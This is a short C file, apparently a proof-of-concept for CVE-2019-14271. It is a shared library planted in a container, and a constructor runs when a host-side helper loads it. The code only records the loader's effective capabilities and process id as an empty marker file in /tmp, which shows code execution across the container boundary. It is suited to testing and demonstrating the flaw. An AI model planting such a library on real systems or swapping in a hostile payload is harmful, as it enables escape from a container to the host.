/* CVE-2019-14271: a library of the tenant that a helper of the host may load. It leaves a file in /tmp named by the
   capabilities and the process id of whoever loaded it. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void loaded(void) {
    char line[256], capabilities[64] = "unknown", path[128];
    FILE *status = fopen("/proc/thread-self/status", "r");
    while (status && fgets(line, sizeof line, status))
        if (sscanf(line, "CapEff: %63s", capabilities) == 1) break;
    if (status) fclose(status);
    snprintf(path, sizeof path, "/tmp/loaded-%s-%d", capabilities, getpid());
    close(open(path, O_CREAT | O_WRONLY, 0644));
}
